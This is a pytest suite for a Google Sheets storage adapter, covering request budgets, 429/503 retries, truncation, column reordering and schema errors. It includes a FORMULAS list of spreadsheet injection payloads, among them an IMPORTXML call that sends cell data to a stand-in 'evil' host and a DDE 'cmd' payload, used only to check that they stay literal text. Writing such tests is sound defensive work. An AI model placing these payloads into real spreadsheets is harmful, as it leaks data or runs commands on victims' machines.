"""The Sheets store through gspread's real HTTP path into the stand-in."""

from __future__ import annotations

import random

import pytest

from automation.adapters.sheets.session import spreadsheet_key
from automation.adapters.sheets.store import SheetsStore
from automation.config import SheetsConfig
from automation.errors import DeadlineExceeded, StoreSchemaError
from automation.ports import CaseUpdate, ChangeSet, TabRows
from automation.sheet import layout as columns
from tests.support.store_world import TAB, World

FORMULAS = [
    '=IMPORTXML("http://evil/?"&A2,"//a")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "=1+1",
]


def _cycle_requests(world: World, creates: list[str], updates: list[str]) -> dict[str, int]:
    start = len(world.api.log)
    world.cycle(creates=creates, updates=updates)
    log = world.api.log[start:]
    return {"reads": sum(not r.is_write for r in log), "writes": sum(r.is_write for r in log)}


def test_request_budget() -> None:
    world = World()
    world.cycle(creates=[f"O-{i}" for i in range(50)])
    for n in (1, 50, 500):
        counts = _cycle_requests(
            world,
            [f"N{n}-{i}" for i in range(n)],
            [f"O-{i}" for i in range(50)] if n == 500 else [],
        )
        print(f"\n{n} new cases: {counts}")
        assert counts["reads"] <= 1 and counts["writes"] <= 2
    big = _cycle_requests(world, [f"B-{i}" for i in range(500)], [f"O-{i}" for i in range(50)])
    assert big == {"reads": 1, "writes": 2}
    assert world.faults() == []


def test_formula_text_stays_literal() -> None:
    world = World()  # strict: a USER_ENTERED write of such text would be a 400
    store = world.store
    world.cycle(creates=["C-1"])
    store.load()
    from automation.ports import NewCase

    result = store.apply(
        ChangeSet(
            creates=tuple(
                NewCase(f"F-{i}", {"Subject": t, "Customer": t}) for i, t in enumerate(FORMULAS)
            ),
            updates=(CaseUpdate("C-1", {"Why": FORMULAS[0], "Poller note": FORMULAS[3]}),),
            appends=(TabRows("Quarantine", ("Subject",), tuple((t,) for t in FORMULAS)),),
        )
    )
    assert result.updated == ("C-1",)
    snap = store.load().by_id()
    for i, text in enumerate(FORMULAS):
        assert snap[f"F-{i}"].get("Subject") == text
    assert snap["C-1"].get("Why") == FORMULAS[0]
    assert store.load().tabs["Quarantine"][1:] == tuple((t,) for t in FORMULAS)
    assert all(r.status == 200 for r in world.api.log)


def test_quota_429_on_30_percent_every_case_once_and_deadline_holds() -> None:
    world = World(deadline=20.0)
    world.api.inject(429, probability=0.3, seed=7)
    done: set[str] = set()
    deadlines = 0
    for cycle in range(40):
        creates = [f"Q-{cycle}-{i}" for i in range(3)]
        updates = sorted(done)[:5]
        try:
            world.cycle(creates=creates, updates=updates)
            done.update(creates)
        except DeadlineExceeded:
            deadlines += 1
            assert world.time.sleeps, "gave up without retrying"
    world.api.clear_faults()
    print(
        f"\n429 x30%: {deadlines} cycles hit the deadline, "
        f"{len(world.time.sleeps)} sleeps, longest {max(world.time.sleeps):.2f}s"
    )
    assert max(world.time.sleeps) <= 8.0  # the cap (no Retry-After from the stand-in)
    grid_ids = [r[0] for r in world.grid()[1:] if r]
    assert len(grid_ids) == len(set(grid_ids))  # never written twice
    assert done <= set(grid_ids)
    assert world.faults() == []


def test_deadline_is_raised_before_sleeping_past_it() -> None:
    world = World(deadline=5.0)
    world.api.inject(503, kinds=["spreadsheets.get"])
    with pytest.raises(DeadlineExceeded, match="retry deadline"):
        world.store.load()
    assert world.time.now <= 5.0


def test_cell_cap_with_truncation_mark() -> None:
    world = World()
    world.cycle(creates=["C-1"])
    world.store.load()
    world.store.apply(ChangeSet(updates=(CaseUpdate("C-1", {"Why": "y" * 70_000}),)))
    why = world.store.load().by_id()["C-1"].get("Why")
    assert len(why) == columns.CELL_LIMIT and why.endswith(columns.TRUNCATION_MARK)


def test_deleted_row_is_reported_never_reaimed() -> None:
    world = World()
    world.cycle(creates=["C-1", "C-2", "C-3"])
    world.delete_case_row("C-2")
    before = world.grid()
    result = world.cycle(updates=["C-2"])
    assert result.missing == ("C-2",) and result.updated == ()
    assert world.grid() == before


def test_column_reorder_and_extra_team_column() -> None:
    world = World()
    world.cycle(creates=["C-1", "C-2"])
    # a person moves Subject to the front and adds their own column in the middle
    grid = world.grid()
    subject = grid[0].index("Subject")
    for row, line in enumerate(grid):
        line.insert(0, line.pop(subject) if subject < len(line) else "")
        line.insert(5, "Mine" if row == 0 else f"mine {row}")
    world.api.seed(world.sid, TAB, grid)
    world.store.load()
    result = world.store.apply(ChangeSet(updates=(CaseUpdate("C-1", {"Why": "moved"}),)))
    assert result.updated == ("C-1",)
    after = world.grid()
    assert after[0][0] == "Subject" and after[0][5] == "Mine"
    assert [r[5] for r in after[1:]] == ["mine 1", "mine 2"]
    assert world.store.load().by_id()["C-1"].get("Why") == "moved"


def test_schema_error_names_the_cell() -> None:
    world = World()
    world.api.human.edit_cell(world.sid, TAB, 0, 4, "Status")
    with pytest.raises(StoreSchemaError, match=r"Cases!E1: duplicate header 'Status'"):
        world.store.load()


def test_initialize_layout() -> None:
    world = World()
    book = world.api.book(world.sid)
    cases = book.sheet_by_title(TAB)
    assert cases is not None and cases.grid_extra.get("frozenRowCount") == 1
    assert world.grid()[0] == list(columns.DEFAULT_ORDER)
    assert world.store.initialize([]) == []


def test_over_real_http_and_key_from_url() -> None:
    world = World()
    with world.api.serve() as root:
        url = f"https://docs.google.com/spreadsheets/d/{world.sid}/edit#gid=0"
        assert spreadsheet_key(url) == world.sid
        store = SheetsStore(SheetsConfig(spreadsheet=url, api_root=root), rng=random.Random(1))
        store.load()
        assert store.apply(ChangeSet(creates=(world.new_case("H-1"),))).created == ("H-1",)
    assert world.row_of("H-1") == 1
